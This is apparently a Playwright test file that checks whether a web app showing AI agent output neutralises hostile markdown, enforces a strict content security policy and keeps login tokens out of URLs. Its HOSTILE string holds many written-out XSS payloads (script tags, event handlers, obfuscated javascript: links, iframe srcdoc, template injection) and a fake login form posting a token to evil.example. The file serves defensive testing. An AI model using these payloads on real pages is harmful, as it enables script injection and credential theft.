"""What an agent says is never run, and no secret stays in an address."""

import re
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.web.speaker import saying, with_speaker
from tests.web.talking import settle, started

HOSTILE = """\
# Hello <script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1"><animate onbegin="window.pwned = 1"></svg>

[a](javascript:window.pwned=1) [b](JaVaScRiPt&colon;window.pwned=1) [c](data:text/html,<script>parent.pwned=1</script>)
[d](vbscript:window.pwned) <javascript:window.pwned=1> [e]( java\tscript:window.pwned=1) [good](https://example.com/)

![picture](https://evil.example/track.png) ![svg](data:image/svg+xml,<svg onload="window.pwned=1"/>)

<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><style>body { display: none }</style>
<form action="https://evil.example/"><input name="token"><button>Log in</button></form>

| <b onclick="window.pwned=1">x</b> | `{{constructor.constructor('window.pwned=1')()}}` |
|---|---|
| <details ontoggle="window.pwned=1" open> | ${window.pwned=1} |

```html
<script>window.pwned = 1</script>
```

[ref]: javascript:window.pwned=1
[ref]

The last line.
"""


@pytest.mark.requirement("R175")
def test_nothing_that_an_agent_says_is_run(make_server, visit, tmp_path: Path):
    server = with_speaker(make_server(), tmp_path / "bin").start()
    text = tmp_path / "hostile.md"
    text.write_text(HOSTILE)
    session_id = started(server, saying(text, pieces=300, seconds=1), agent="speaker")
    asked: list[str] = []
    page = visit(server, f"/sessions/{session_id}")
    page.on("request", lambda request: asked.append(request.url))
    settle(page)
    page.reload()
    settle(page)
    feed = page.get_by_role("feed")
    expect(feed).to_contain_text("The last line.")
    expect(feed.get_by_role("link", name="good")).to_be_visible()  # rows above the last come once that is measured
    assert page.evaluate("window.pwned") is None
    assert feed.locator("script, iframe, style, form, object, embed, img, [onload], [onerror], [onclick]").count() == 0
    links = feed.locator("a[href]").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert "https://example.com/" in links
    assert [link for link in links if not re.match(r"^(https?:|mailto:|#|/)", link)] == []
    assert [url for url in asked if not url.startswith((server.url, "data:", "blob:"))] == []


def test_every_answer_of_the_app_has_a_strict_policy_and_no_address_has_the_token(home, visit):
    page = visit(home, "/login", logged_in=False)
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url))
    page.goto(f"{home.url}/?token=test-token")
    policy = page.request.get(f"{home.url}/").headers["content-security-policy"]
    assert "script-src 'self';" in policy
    assert "unsafe" not in policy
    page.get_by_role("link", name="Agents").click()
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    assert len(seen) > 5
    # The one that was opened, and no other: not even of what the page asks for at once.
    assert [url for url in [page.url, *seen] if "test-token" in url] == [f"{home.url}/?token=test-token"]
    assert page.evaluate("document.cookie") == ""


def test_a_browser_without_a_cookie_is_asked_to_log_in_and_comes_back(home, visit):
    page = visit(home, "/agents", logged_in=False)
    expect(page).to_have_url(re.compile("/login"))
    field = page.get_by_label("Token", exact=False).first
    field.fill("wrong")
    page.keyboard.press("Enter")
    expect(page.get_by_role("alert")).to_be_visible()
    field.fill("test-token")
    page.keyboard.press("Enter")
    expect(page).to_have_url(f"{home.url}/agents")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
